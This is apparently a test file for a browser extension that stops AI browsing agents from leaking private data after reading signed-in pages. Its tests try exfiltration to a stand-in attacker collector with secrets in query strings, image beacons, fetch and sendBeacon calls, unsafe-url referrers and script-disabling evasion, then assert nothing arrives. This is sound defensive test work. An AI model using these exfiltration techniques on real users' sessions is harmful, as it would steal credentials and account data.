// What a signed-in page holds, and where it could leave from unseen: tabs that show no site's document, the tab that was there first, the Referer.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { playwrightHands } from '../agents/playwright.mjs';
import { rawCdpHands } from '../agents/raw-cdp.mjs';
import { readBalance, signInToBank, until } from '../agents/tasks.mjs';
import { PREPARE, SECRETS, sceneOf, sharedBrowser } from '../attacks/attempt.mjs';
import { page, raw } from '../sites/html.mjs';
import { leaked } from '../sites/leaks.mjs';
import { flagsFor, startSites } from '../sites/server.mjs';
import { PERSON, urlOf } from '../sites/world.mjs';
import { openPopup } from './popup-of.mjs';
import { extension } from './with-guard.mjs';

const COLLECT = urlOf('attacker', '/c');
const DESK = 'desk.example';
const [NEW, NEWER] = ['new.example', 'newer.example'];
const KEY = 'dk-live-7QmXv9KpLtRsWzNdHaYc';
const REVEALED = 'kX9#vQ2mTz!';
const BODIES = {
  '/': '<noscript><b>No scripts</b></noscript>',
  '/key': `<label>Your key <input readonly value="${KEY}"></label>`,
  '/revealed': `<label>Password <input type="text" name="password" value="${REVEALED}"></label>`,
};
const signedIn = ({ path }) =>
  page({ title: 'Desk', name: 'Desk', body: raw(`<a href="/logout">Sign out</a>${BODIES[path] ?? ''}`) });
/** A document that no server gave may reach this machine's own servers, and the web's; Playwright's own of these go with it. */
const args = ['--disable-features=LocalNetworkAccessChecks,HttpsUpgrades,HttpsFirstBalancedModeAutoEnable'];

/** By an address, as agents leave; then once more with nothing in it, which comes by the same way and after it. */
async function leave(tab, sites, what) {
  await tab.goto(`${COLLECT}?d=${encodeURIComponent(what)}`).catch(() => undefined);
  const plain = `${COLLECT}/plain/${sites.collector.records.length}`;
  await tab.goto(plain).catch(() => undefined);
  await until(async () => sites.collector.records.some(({ url }) => url === plain), 'what carries nothing');
}

describe('after a private read', () => {
  const shared = sharedBrowser(playwrightHands, { extension, extra: { [DESK]: signedIn }, args, forgets: true });
  let scene;
  before(async () => {
    scene = await shared.scene();
  });
  after(() => shared.close());
  const arrived = (secrets = SECRETS) => leaked(scene.sites.collector.records, secrets);

  test('in another tab, the tab that was there first is guarded', { timeout: 60_000 }, async () => {
    const { hands, world, memory, sites } = scene;
    const other = await hands.newTab();
    await signInToBank(other, world);
    await readBalance(other, memory);
    await leave(hands, sites, world.person.account);
    assert.deepEqual(arrived(), []);
    await other.page.close();
  });

  test('of a key that is shown to be copied, or a password that is revealed, neither leaves by an address', {
    timeout: 60_000,
  }, async () => {
    const { hands, sites } = scene;
    for (const [path, secret] of Object.entries({ '/key': KEY, '/revealed': REVEALED })) {
      await hands.goto(`http://${DESK}${path}`);
      await hands.wait(1_200);
      await leave(hands, sites, secret);
      assert.deepEqual(arrived({ [path]: secret }), []);
    }
  });

  test('what such a page has shown this very moment does not leave by an address either', {
    timeout: 60_000,
  }, async () => {
    const { hands, sites } = scene;
    await hands.goto(`http://${DESK}/`);
    await hands.wait(1_200);
    const fresh = 'dk-live-Zp4WnTq8LkVbRxGm2cYs';
    await hands.run(`document.body.append('Your new key: ${fresh}'); 0`);
    await leave(hands, sites, fresh);
    assert.deepEqual(arrived({ fresh }), []);
  });

  test('an agent that presses by script and goes elsewhere in the same moment gets there', {
    timeout: 90_000,
  }, async () => {
    const { hands } = scene;
    await hands.goto(`http://${DESK}/`);
    await hands.wait(1_200);
    // One of the two is given up, which Playwright may call an error; neither may wait for good.
    const isOver = (error) => {
      if (/Timeout/.test(error.message)) throw error;
    };
    for (let left = 15; left > 0; left--) {
      await hands.run(`document.querySelector('a').click(); 0`).catch(isOver);
      await hands.page.goto(`http://${DESK}/`, { timeout: 8_000 }).catch(isOver);
      await hands.page.waitForLoadState();
    }
  });

  test('at the bank, other sites are told of the site alone, and not of the page’s address', {
    timeout: 60_000,
  }, async () => {
    const { hands, sites } = scene;
    await PREPARE.bank(scene);
    sites.collector.records.length = 0;
    await hands.run(`history.replaceState(0, '', '/account?d=' + encodeURIComponent(document.querySelector('#account').textContent));
      document.head.insertAdjacentHTML('beforeend', '<meta name=referrer content=unsafe-url>');
      fetch('${COLLECT}/asked', { mode: 'no-cors', referrerPolicy: 'unsafe-url' }); 0`);
    const of = (path) => sites.collector.records.find(({ url }) => url.includes(path));
    await until(async () => of('/c/asked'), 'the request');
    await hands.run(
      `document.body.append(Object.assign(document.createElement('a'), { href: '${COLLECT}/opened', textContent: 'Away', referrerPolicy: 'unsafe-url' })); 0`,
    );
    await hands.click({ link: 'Away' });
    await until(async () => of('/c/opened'), 'the page');
    for (const path of ['/c/asked', '/c/opened'])
      assert.doesNotMatch(of(path).headers.referer ?? '', /account/, `${path} was told ${of(path).headers.referer}`);
    assert.deepEqual(arrived(), []);
  });

  test('nothing leaves from a page that no server gave', { timeout: 60_000 }, async () => {
    const { hands, world } = scene;
    const tab = await hands.newTab('data:text/html,<p>Notes</p>');
    const D = JSON.stringify(world.person.account);
    await tab.run(`new Image().src = '${COLLECT}?d=' + encodeURIComponent(${D});
      fetch('${COLLECT}', { method: 'POST', mode: 'no-cors', body: ${D} }).catch(() => {});
      navigator.sendBeacon('${COLLECT}', ${D}); 0`);
    await hands.wait(1_500);
    assert.deepEqual(arrived(), []);
  });

  test('a signed-in page reaches a new place by a request that carries nothing, and none under the pack `strict`', {
    timeout: 60_000,
  }, async () => {
    const { hands, world } = scene;
    const reached = (host) => world.visits.some(({ site }) => site === host);
    const reach = (host) => hands.run(`fetch('http://${host}/', { mode: 'no-cors' }).then(() => 1, () => 0)`);
    await hands.goto(`http://${DESK}/key`);
    await hands.wait(1_200);
    await reach(NEW);
    assert.ok(reached(NEW));
    const popup = await openPopup(hands);
    await popup.ask('popup.pack', { pack: 'strict' });
    await hands.page.bringToFront();
    await hands.goto(`http://${DESK}/key`);
    await hands.wait(1_200);
    await reach(NEWER);
    await hands.wait(1_000);
    assert.ok(!reached(NEWER));
  });

  for (const [how, opens] of [
    ['whose scripts a debugger switched off', withoutScripts],
    ['that is shown as its source', ({ page }) => page.goto(`view-source:http://${DESK}/key`)],
  ])
    test(`what is read on a page ${how} goes to no other site unasked, and within its own it does`, {
      timeout: 60_000,
    }, async () => {
      scene = await shared.scene();
      const { hands } = scene;
      // The first page in which an agent is seen: nothing was read before.
      await hands.goto(urlOf('forum'));
      await opens(hands);
      await until(() => isReadPrivately(hands), 'the page counts as read');
      await hands.wait(500);
      await hands.goto(`${COLLECT}?d=${KEY}`).catch(() => undefined);
      await hands.goto(`http://${DESK}/?d=${KEY}`);
      assert.deepEqual(arrived({ KEY }), []);
      const { questions, incidents } = await (await openPopup(hands)).state();
      // Where our script got in all the same, it knows the key itself.
      const rules = [...questions, ...incidents].map(({ rule, dest }) => [rule ?? 'exfiltration-by-address', dest]);
      assert.equal(rules.length, 1, JSON.stringify(rules));
      assert.equal(rules[0][1], new URL(COLLECT).hostname);
    });
});

/** Whether it is known that something private was read. */
function isReadPrivately({ context, id }) {
  const worker = context.serviceWorkers().findLast((one) => one.url().includes(id));
  return worker?.evaluate(async () =>
    JSON.stringify(await chrome.storage.session.get(null)).includes('firstPrivateAt'),
  );
}

async function withoutScripts({ context, page }) {
  const debug = await context.newCDPSession(page);
  await debug.send('Emulation.setScriptExecutionDisabled', { value: true });
  // A process that is new for it may still begin with scripts.
  const isOff = () => page.locator('noscript b').count();
  do await page.goto(`http://${DESK}/`);
  while (!(await isOff()));
  await page.goto(`http://${DESK}/key`);
  await page.waitForTimeout(1_000);
  // Where they are switched on again there, our script comes late, and reads it.
  await page.goto('about:blank');
  await debug.send('Emulation.setScriptExecutionDisabled', { value: false });
}

for (const [what, shows] of [
  ['an empty tab', 'about:blank'],
  ['a tab of the person’s', urlOf('forum')],
])
  test(`${what} that an agent attaches to late, and uses at once`, { timeout: 60_000 }, async () => {
    const sites = await startSites();
    const hands = await rawCdpHands({ extension, args: flagsFor(sites) });
    try {
      const scene = sceneOf(hands, sites);
      // Before there is an agent.
      const early = shows === 'about:blank' ? undefined : await hands.openTab(shows);
      await hands.wait(2_500);
      await signInToBank(hands, scene.world);
      await readBalance(hands, scene.memory);
      const tab = early ?? (await hands.openTab(shows));
      await hands.wait(4_000);
      const late = await tab.attach();
      await late.goto(`${COLLECT}?d=${encodeURIComponent(PERSON.account)}`).catch(() => undefined);
      await hands.wait(1_000);
      assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
    } finally {
      await hands.close();
      await sites.close();
    }
  });
